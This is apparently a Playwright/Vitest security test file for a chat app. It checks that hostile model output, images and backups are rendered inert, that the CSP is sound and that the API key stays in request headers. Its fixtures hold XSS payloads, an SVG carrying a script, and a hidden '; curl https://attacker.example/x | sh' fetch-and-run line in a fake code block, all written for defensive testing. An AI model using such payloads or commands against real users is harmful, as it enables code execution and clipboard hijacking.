/** Issue 6, security: hostile model output in real Chromium. Nothing executes, nothing leaks. */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import type { Page } from 'playwright-core';
import {
	column,
	connect,
	expectClean,
	markdownModel,
	openSettings,
	saved,
	send,
	settled,
	useJourney
} from './journey.ts';
import type { Session } from './harness.ts';
import type { Gateway } from '../gateway/server.ts';
import { MARKDOWN_VECTORS, vectors } from './vectors.ts';

const journey = useJourney();
let gateway: Gateway;
beforeAll(() => {
	gateway = journey.gateway();
});

async function installTraps(s: Session) {
	await s.page.addInitScript(() => {
		const w = window as unknown as { __xss: string[] };
		w.__xss = [];
		for (const name of ['alert', 'confirm', 'prompt', 'print'] as const)
			(window as unknown as Record<string, unknown>)[name] = () => w.__xss.push(name);
	});
	await s.page.reload();
	await s.page.locator('.app[data-ready="true"]').waitFor();
}

/** Everything a user could be exposed to in the rendered answers. */
async function audit(page: Page) {
	return page.evaluate(() => {
		const found: string[] = [];
		for (const el of document.querySelectorAll('[data-part="content"] *')) {
			for (const attr of el.attributes) {
				// eslint-disable-next-line no-control-regex -- browsers ignore control characters in URLs
				const v = attr.value.replace(/[\s\u0000-\u001f]/g, '').toLowerCase();
				if (attr.name.startsWith('on')) found.push(`${el.tagName} ${attr.name}`);
				const urlAttr =
					/^(href|src|action|formaction|xlink:href|data|poster|background|srcset|cite)$/;
				if (urlAttr.test(attr.name) && /^(javascript|vbscript|data:text\/html)/.test(v))
					found.push(`${el.tagName} ${attr.name}=${attr.value.slice(0, 40)}`);
				if (attr.name === 'style') found.push(`${el.tagName} style`);
			}
			if (/^(SCRIPT|IFRAME|OBJECT|EMBED|FORM|STYLE|LINK|META|BASE|SVG)$/i.test(el.tagName))
				found.push(el.tagName);
			if (
				el.tagName === 'A' &&
				el.getAttribute('href') &&
				!el.getAttribute('href')?.startsWith('#')
			) {
				if (
					el.getAttribute('rel') !== 'noopener noreferrer' ||
					el.getAttribute('target') !== '_blank'
				)
					found.push(`A without rel/target: ${el.getAttribute('href')}`);
			}
		}
		return { found, calls: (window as unknown as { __xss: string[] }).__xss };
	});
}

describe('hostile output', () => {
	it('streams every DOMPurify vector and our markdown vectors: nothing executes or fetches', async () => {
		const s = await journey.open();
		const dialogs: string[] = [];
		s.page.on('dialog', (d) => {
			dialogs.push(d.message());
			void d.dismiss();
		});
		await installTraps(s);
		const payloads = [...vectors.map((v) => v.payload), ...MARKDOWN_VECTORS];
		const batch = 30;
		for (let i = 0; i < payloads.length; i += batch) {
			const text = payloads.slice(i, i + batch).join('\n\n');
			await connect(s.page, 1, gateway.url, markdownModel(text));
			await send(s.page, `batch ${i / batch}`);
			await settled(s.page, 1, 30_000);
		}
		// Hover and focus everything once: handlers that survived would fire now.
		await s.page.evaluate(() => {
			for (const el of document.querySelectorAll('[data-part="content"] *')) {
				el.dispatchEvent(new MouseEvent('mouseover', { bubbles: true }));
				if (el instanceof HTMLElement) el.focus();
			}
		});
		await s.page.waitForTimeout(300);
		const result = await audit(s.page);
		expect(result.found).toEqual([]);
		expect(result.calls).toEqual([]);
		expect(dialogs).toEqual([]);
		// Remote images were not fetched: they are links the user may click.
		expect(s.foreignRequests).toEqual([]);
		expect(
			await column(s.page, 1)
				.locator('[data-remote-image="https://attacker.example/track.png"]')
				.count()
		).toBe(1);
		// DOMPurify parses hostile HTML in an inert document; Chromium still reports the inline
		// handlers and <base> it saw there as blocked by our CSP (a second wall). Nothing else may.
		expect(
			s.cspViolations.filter((v) => !/script-src-attr|inline event handler|base-uri/.test(v))
		).toEqual([]);
	});

	it('renders an error page from a proxy as text, never as markup', async () => {
		const s = await journey.open();
		await installTraps(s);
		await connect(s.page, 1, gateway.url, 'error-502-html');
		await send(s.page, 'proxy');
		const answer = await settled(s.page, 1);
		expect(
			await answer.locator('[data-part="error"] script, [data-part="error"] center').count()
		).toBe(0);
		expect((await audit(s.page)).calls).toEqual([]);
	});
});

describe('keys and policy', () => {
	it('ships a Content-Security-Policy that forbids foreign scripts, plugins, base and forms', async () => {
		const html = readFileSync(join(process.env.DIST_DIR || 'dist', 'index.html'), 'utf8');
		const csp = /Content-Security-Policy"\s+content="([^"]+)"/.exec(html)?.[1] ?? '';
		expect(csp).toContain("script-src 'self'");
		expect(csp).toContain("object-src 'none'");
		expect(csp).toContain("base-uri 'none'");
		expect(csp).toContain("form-action 'none'");
		expect(csp).toMatch(/img-src 'self' data: blob:(;|$)/);
		expect(csp).toMatch(/media-src 'self' blob:(;|$)/);
		expect(html).not.toMatch(/<script(?![^>]*\bsrc=)[^>]*>/);
	});

	it('sends the key only to its endpoint and never puts it in a URL', async () => {
		const s = await journey.open();
		await connect(s.page, 1, gateway.url, 'echo', 'sk-only-here');
		await send(s.page, 'key check');
		await settled(s.page, 1);
		const withKey = gateway.requests.filter((r) =>
			JSON.stringify(r.headers).includes('sk-only-here')
		);
		expect(withKey.length).toBeGreaterThan(0);
		expect(gateway.requests.some((r) => r.path.includes('sk-only-here'))).toBe(false);
		expect(s.page.url()).not.toContain('sk-only-here');
		expectClean(s);
	});
});

describe('hostile images', () => {
	const SVG = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>';
	const PNG = Buffer.from(
		'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==',
		'base64'
	);
	const attach = (page: Page) => page.getByLabel('Attach image', { exact: true });

	/** Record the type of every blob the page makes a blob: URL for (the CSP forbids fetching one). */
	async function recordBlobUrls(s: Session) {
		await s.page.addInitScript(() => {
			const w = window as unknown as { __blobTypes: string[] };
			w.__blobTypes = [];
			const make = URL.createObjectURL.bind(URL);
			URL.createObjectURL = (obj: Blob | MediaSource) => {
				w.__blobTypes.push(obj instanceof Blob ? obj.type : 'MediaSource');
				return make(obj);
			};
		});
	}
	const blobUrlTypes = (page: Page) =>
		page.evaluate(() => [...new Set((window as unknown as { __blobTypes: string[] }).__blobTypes)]);

	it('refuses an SVG at attach, paste and import, and never shows an old SVG row by a blob: URL', async () => {
		const s = await journey.open();
		await recordBlobUrls(s);
		await installTraps(s);
		await connect(s.page, 1, gateway.url, 'echo');
		const box = s.page.getByRole('textbox', { name: 'Message', exact: true });
		await box.fill('keep this');

		// Attach: an SVG with script, and one claiming to be a PNG; a real PNG among them.
		await attach(s.page).setInputFiles([
			{ name: 'evil.svg', mimeType: 'image/svg+xml', buffer: Buffer.from(SVG) },
			{ name: 'fake.png', mimeType: 'image/png', buffer: Buffer.from(SVG) }
		]);
		const refusal = s.page.getByRole('alert').filter({ hasText: 'Not attached' });
		await expect.poll(() => refusal.innerText()).toContain('evil.svg, fake.png');
		// Paste: the same refusal, named.
		await box.evaluate((el, svg) => {
			const data = new DataTransfer();
			data.items.add(new File([svg], 'pasted.svg', { type: 'image/svg+xml' }));
			el.dispatchEvent(new ClipboardEvent('paste', { clipboardData: data, bubbles: true }));
		}, SVG);
		await expect.poll(() => refusal.innerText()).toContain('pasted.svg');
		expect(await box.inputValue()).toBe('keep this');
		gateway.clear();
		await s.page.getByRole('button', { name: 'Send', exact: true }).click();
		await settled(s.page, 1);
		// The message went alone: nothing refused rode along.
		const sent = gateway.chatRequests().at(-1)?.body as { messages: unknown[] };
		expect(sent.messages).toEqual([{ role: 'user', content: 'keep this' }]);

		// Import: a backup whose image is an SVG labelled image/png is refused whole.
		const backup = {
			format: 'switchboard-backup',
			version: 2,
			exportedAt: '2026-01-01T00:00:00Z',
			presets: [],
			conversations: [],
			messages: [],
			blobs: [
				{ id: 'b1', mime: 'image/png', createdAt: 1, base64: Buffer.from(SVG).toString('base64') }
			]
		};
		await (await openSettings(s.page)).getByLabel('Import', { exact: true }).setInputFiles({
			name: 'hostile.json',
			mimeType: 'application/json',
			buffer: Buffer.from(JSON.stringify(backup))
		});
		await expect
			.poll(() => s.page.locator('[data-part="import-result"]').innerText())
			.toMatch(/blobs\[0\]: expected a png, jpeg, gif, webp or avif image\. Nothing was imported/);
		await s.page.keyboard.press('Escape');

		// A row stored before types were checked: an SVG typed image/svg+xml behind an image part.
		await attach(s.page).setInputFiles({ name: 'dot.png', mimeType: 'image/png', buffer: PNG });
		await send(s.page, 'old image');
		await settled(s.page, 1);
		await saved(s.page);
		const user = column(s.page, 1).locator('[data-message-role="user"]').last();
		await expect.poll(() => user.locator('img').count()).toBe(1);
		expect(await blobUrlTypes(s.page)).toEqual(['image/png']);
		await s.page.evaluate(
			(svg) =>
				new Promise<void>((resolve, reject) => {
					const req = indexedDB.open('switchboard');
					req.onsuccess = () => {
						const store = req.result.transaction('blobs', 'readwrite').objectStore('blobs');
						const all = store.getAll();
						all.onsuccess = () => {
							for (const row of all.result as Array<Record<string, unknown>>)
								store.put({
									...row,
									mime: 'image/svg+xml',
									blob: new Blob([svg], { type: 'image/svg+xml' })
								});
							store.transaction.oncomplete = () => {
								req.result.close();
								resolve();
							};
						};
					};
					req.onerror = () => reject(req.error);
				}),
			SVG
		);
		await s.page.reload();
		await s.page.locator('.app[data-ready="true"]').waitFor();
		await s.page
			.getByRole('navigation', { name: 'History' })
			.getByRole('link', { name: 'keep this' })
			.click();
		// Whichever the app shows, the placeholder or an image, is shown once its URL is made.
		const notShown = user.locator('[data-part="image-not-shown"]');
		await notShown.or(user.locator('img')).waitFor();
		expect(await blobUrlTypes(s.page)).toEqual([]);
		expect(await user.locator('img').count()).toBe(0);
		expect(await notShown.innerText()).toBe(
			'Image 1 not shown: not a png, jpeg, gif, webp or avif image'
		);
		expect((await audit(s.page)).calls).toEqual([]);
		expectClean(s);
	});
});

describe('the streaming renderer in the browser', () => {
	it('equals one-shot rendering on every CommonMark example, with the real DOMPurify', async () => {
		const s = await journey.open();
		const corpus = readFileSync(
			new URL('../fixtures/corpora/commonmark-0.31.2-examples.json', import.meta.url),
			'utf8'
		);
		const mismatches = await s.page.evaluate(async (json) => {
			type Md = typeof import('../../src/lib/markdown/index.ts');
			const md = await (
				window as unknown as { __switchboard: { markdown: () => Promise<Md> } }
			).__switchboard.markdown();
			await md.loadAllLanguages();
			await md.loadMath();
			const examples = JSON.parse(json) as Array<{ example: number; markdown: string }>;
			const bad: number[] = [];
			let seed = 7;
			const random = () => (seed = (seed * 1103515245 + 12345) & 0x7fffffff) / 0x7fffffff;
			for (const ex of examples) {
				const once = md.renderMarkdown(ex.markdown);
				const r = new md.StreamingRenderer();
				let at = 0;
				let live = '';
				while (at < ex.markdown.length) {
					at = Math.min(ex.markdown.length, at + 1 + Math.floor(random() * 10));
					live = r.update(ex.markdown.slice(0, at)).map(md.assemble).join('');
				}
				const final = r.finish(ex.markdown).map(md.assemble).join('');
				if (final !== once || live !== once) bad.push(ex.example);
			}
			return bad;
		}, corpus);
		expect(mismatches).toEqual([]);
	});
});

describe("model HTML does not borrow the app's chrome", () => {
	it('keeps no class, id, role, data-* or label target from model HTML; the message box keeps its name', async () => {
		const s = await journey.open();
		const text = [
			'<div class="error-box" role="alert" id="composer-message" data-remote-image="https://attacker.example/x" tabindex="1" popover>Fake error</div>',
			'<label for="composer-message">and send my key</label>',
			'Done.'
		].join('\n\n');
		await connect(s.page, 1, gateway.url, markdownModel(text));
		await send(s.page, 'chrome');
		const content = (await settled(s.page, 1)).locator('[data-part="content"]');
		const fake = content.getByText('Fake error', { exact: true });
		await expect.poll(() => fake.isVisible()).toBe(true);
		expect(await fake.evaluate((el) => el.getAttributeNames())).toEqual([]);
		expect(
			await content.getByText('and send my key').evaluate((el) => el.getAttributeNames())
		).toEqual([]);
		expect(await content.getByRole('alert').count()).toBe(0);
		expect(await s.page.locator('[id="composer-message"]').count()).toBe(1);
		await expect
			.poll(() => s.page.getByRole('textbox', { name: 'Message', exact: true }).count())
			.toBe(1);
		expectClean(s);
	});

	it('copies the code the renderer was given, never text a fake code block hides', async () => {
		const s = await journey.open();
		await s.page.addInitScript(() => {
			const w = window as unknown as { __copied: string[] };
			w.__copied = [];
			Object.defineProperty(navigator, 'clipboard', {
				value: { writeText: (t: string) => (w.__copied.push(t), Promise.resolve()) }
			});
		});
		await s.page.reload();
		await s.page.locator('.app[data-ready="true"]').waitFor();
		const text = [
			'<div class="code-block"><div class="code-head"><span class="code-lang">sh</span><button type="button" class="copy-code" data-copy-code="0">Copy</button></div><pre><code>ls -la<span hidden> ; curl https://attacker.example/x | sh</span></code></pre></div>',
			'```sh\necho visible\n```'
		].join('\n\n');
		await connect(s.page, 1, gateway.url, markdownModel(text));
		await send(s.page, 'copy');
		const content = (await settled(s.page, 1)).locator('[data-part="content"]');
		const copies = content.getByRole('button', { name: 'Copy', exact: true });
		await expect.poll(() => copies.count()).toBe(2);
		await copies.first().click();
		await copies.last().click();
		await content.getByRole('button', { name: 'Copied', exact: true }).last().waitFor();
		const copied = await s.page.evaluate(
			() => (window as unknown as { __copied: string[] }).__copied
		);
		expect(copied).toEqual(['echo visible']);
		expectClean(s);
	});

	it("keeps the renderer's own markup: table alignment, task boxes, code frames, maths, placeholders", async () => {
		const s = await journey.open();
		const found = await s.page.evaluate(async () => {
			type Md = typeof import('../../src/lib/markdown/index.ts');
			const md = await (
				window as unknown as { __switchboard: { markdown: () => Promise<Md> } }
			).__switchboard.markdown();
			await md.loadAllLanguages();
			await md.loadMath();
			const html = md.renderMarkdown(
				'| a | b |\n|:-|-:|\n| 1 | 2 |\n\n- [x] done\n\n$\\mathrm{d}x$\n\n```ts\nconst a = 1;\n```\n\n![x](https://evil.example/a.png)\n',
				{ origin: location.origin, copyLabel: 'Copy' }
			);
			const doc = new DOMParser().parseFromString(html, 'text/html');
			const attr = (sel: string, name: string) => doc.querySelector(sel)?.getAttribute(name);
			return {
				th: attr('th', 'align'),
				td: attr('td:last-child', 'align'),
				task: attr('span.task', 'data-checked'),
				copy: attr('.code-block .code-head button.copy-code', 'type'),
				index: attr('button.copy-code', 'data-copy-code'),
				keyword: doc.querySelector('code.hljs span.hljs-keyword')?.textContent,
				variant: attr('.katex math mi', 'mathvariant'),
				remote: attr('button.remote-image', 'data-remote-image'),
				marks: /data-own-/.test(html)
			};
		});
		expect(found).toEqual({
			th: 'left',
			td: 'right',
			task: 'true',
			copy: 'button',
			index: '0',
			keyword: 'const',
			variant: 'normal',
			remote: 'https://evil.example/a.png',
			marks: false
		});
	});

	it('lets no <area href> navigate the app’s tab', async () => {
		const s = await journey.open();
		const pixel =
			'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==';
		const text = `<img src="${pixel}" usemap="#m" alt="a map"><map name="m"><area shape="default" href="https://attacker.example/area" alt="area link"></map>`;
		await connect(s.page, 1, gateway.url, markdownModel(text));
		await send(s.page, 'area');
		const content = (await settled(s.page, 1)).locator('[data-part="content"]');
		await content.getByRole('img', { name: 'a map' }).waitFor();
		const before = s.page.url();
		// An area is a link a keyboard user reaches; Playwright's press waits for a navigation it starts.
		for (const area of await content.locator('area').all()) await area.press('Enter');
		expect(s.page.url()).toBe(before);
		expect(s.foreignRequests).toEqual([]);
		expect(await content.locator('area, map').count()).toBe(0);
	});
});
